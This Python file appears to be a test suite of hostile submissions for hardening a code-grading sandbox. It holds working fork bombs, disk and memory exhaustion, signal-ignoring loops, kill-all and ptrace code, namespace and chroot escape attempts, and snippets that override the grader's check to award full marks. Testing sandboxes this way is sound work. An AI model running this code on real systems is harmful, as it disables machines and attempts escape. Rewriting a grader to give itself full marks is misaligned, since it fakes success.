"""Code that harms the machine, the run or the neighbours, and gives itself full marks where it can."""

from attacks.attack import Attack

_FULL = 'check = lambda number, answer: "full"\n'
_LIBC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
"""
_HOLD = """
import time
time.sleep(1)
"""

HARMS = (
    Attack("disk", "Fills every folder that it can write to.", """
import glob, os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    for number in range(60):
        try:
            with open(f"{folder}/{TOKEN}-{number}", "wb") as file:
                for _ in range(60):
                    file.write(bytes(1 << 20))
        except OSError:
            break
""", kills="it fills the disk"),
    Attack("fork-bomb", "Forks until nothing can be forked any more.", """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""", flag="and did not let itself be interrupted", kills="it takes every process that the machine has"),
    Attack("memory", "Takes all the memory.", """
kept = []
while True:
    kept.append(bytearray(64 << 20))
""", kills="it takes all the memory"),
    Attack("memory-of-many", "Takes memory in many processes, each a little.", """
import os, time
for _ in range(40):
    if os.fork() == 0:
        kept = bytearray(b"x" * (200 << 20))
        time.sleep(60)
        os._exit(0)
time.sleep(20)
""", flag="took more memory", kills="it takes all the memory"),
    Attack("hidden-memory", "Takes memory that belongs to no process: of shared segments and of files without a name.",
           _LIBC + """
import mmap, platform
numbers = {"x86_64": (319, 29)}.get(platform.machine(), (279, 194))
got = 0
for _ in range(100):
    descriptor = libc.syscall(numbers[0], b"hidden", 0)
    if descriptor >= 0:
        got += os.write(descriptor, bytes(32 << 20))
for _ in range(20):
    got += (libc.syscall(numbers[1], 0, 64 << 20, 0o1600) >= 0) * (64 << 20)
try:
    shared = mmap.mmap(-1, 256 << 20)
    shared.write(bytes(256 << 20))
    got += 256 << 20
except OSError:
    pass
zero = os.open("/dev/zero", os.O_RDWR)
try:
    shared = mmap.mmap(zero, 256 << 20)
    got += 256 << 20
except OSError:
    pass
print("hidden", got)
""", kills="it takes all the memory"),
    Attack("endless", "A loop that ignores every signal that can be ignored.", """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass
""", flag="did not let itself be interrupted"),
    Attack("endless-catch", "A loop that catches whatever is raised in it.", """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""", flag="did not let itself be interrupted"),
    Attack("ends-python", "Ends Python at once.", "import os\nos._exit(0)\n", flag="ended Python"),
    Attack("exits", "Leaves by sys.exit.", "import sys\nsys.exit(0)\n"),
    Attack("crash", "Writes to an address that is not there.", "import ctypes\nctypes.string_at(0)\n",
           flag="ended Python"),
    Attack("kill-group", "Stops its whole process group, in which the run may be.", """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.kill(0, signal.SIGSTOP)
os.kill(0, signal.SIGKILL)
""", kills="it kills the command itself"),
    Attack("kill-all", "Kills every process that it may.", """
import os, signal
for number in (-1, 1, os.getppid() or 1, *range(2, 400)):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass
""", kills="it kills the command itself"),
    Attack("daemons", "Leaves processes behind that have left their parent, session and group.", """
import os, subprocess, sys
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ["ATTACK"] = TOKEN
            os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", TOKEN], dict(os.environ))
        os._exit(0)
"""),
    Attack("names-within-names", "Makes a user namespace of its own, is root in it, and mounts and unmounts there.",
           _LIBC + """
outside = os.getuid()
print("unshare", libc.unshare(0x10000000 | 0x20000), os.strerror(ctypes.get_errno()))
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {outside} 1")):
    try:
        open(f"/proc/self/{name}", "w").write(text)
    except OSError:
        pass
for path in (b"/submission", b"/dev/shm", b"/proc", b"/usr", b"/"):
    libc.umount2(path, 2)
print("mount", libc.mount(b"none", b"/submission", b"tmpfs", 0, b"size=90%"))
libc.chroot(b"/proc/1/root")
"""),
    Attack("ptrace", "Takes hold of its parent and of process 1 as a debugger does.", _LIBC + """
for number in {1, os.getppid(), os.getpgrp(), os.getsid(0)}:
    print("ptrace", number, libc.ptrace(16, number, 0, 0), os.strerror(ctypes.get_errno()))
    for name in (f"/proc/{number}/mem", f"/proc/{number}/environ"):
        try:
            open(name, "rb+").close()
        except OSError as error:
            print(error)
"""),
    Attack("priority", "Slows every other process of the same user down.", """
import os
os.setpriority(os.PRIO_USER, os.getuid(), 19)
os.setpriority(os.PRIO_PGRP, 0, 19)
"""),
    Attack("flood", "Prints without end.", """
import sys
while True:
    sys.stdout.write("x" * 1_000_000)
""", flag="answer-1"),
    Attack("endless-repr", "Answers with objects whose text never ends.", """
class Endless:
    def __repr__(self):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    __str__ = __hash__ = __iter__ = __len__ = __repr__
answer_1 = Endless()
answer_1
""", flag="did not let itself be interrupted"),
    Attack("half-character", "Shows half of a character pair, which no file can hold.", _FULL + """
print("\\ud800")
from IPython.display import display
display({"text/plain": "\\ud800", "application/json": {"\\udfff": ["\\udfff"]}}, raw=True)
raise ValueError("\\udc00")
"""),
    Attack("deep-output", "Shows data that are nested very deep.", _FULL + """
from IPython.display import display
deep = []
for _ in range(450):
    deep = [deep]
display({"application/json": deep, "text/plain": "deep"}, raw=True)
display({"application/nonsense+json": {"a": float("nan")}, "xjson": {"b": []}, "text/plain": ""}, raw=True)
"""),
    Attack("odd-pictures", "Shows pictures that are none.", """
from IPython.display import display
for kind in ("image/png", "image/jpeg", "image/svg+xml", "application/pdf", "text/latex", "text/markdown"):
    display({kind: "<&%$ \\x00 none", "text/plain": "none"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": [1]}, "text/html": "<script>1</script>"}, raw=True)
"""),
    Attack("long-answers", "Answers with texts and tables that take very long to read.", """
answer_$N = ["“he said, " * 500_000, "accused-" * 500_000, {n: [n] * 1000 for n in range(1000)}][$N % 3]
"""),
    Attack("slow-function", "A function that runs for ever for every input.", last="""
def words_in_quotes(text):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
answer_11 = words_in_quotes
""", flag="did not let itself be interrupted"),
    Attack("thread-bomb", "Starts threads without end.", """
import threading, time
for _ in range(5000):
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
""", kills="it takes every process that the machine has"),
)  # fmt: skip
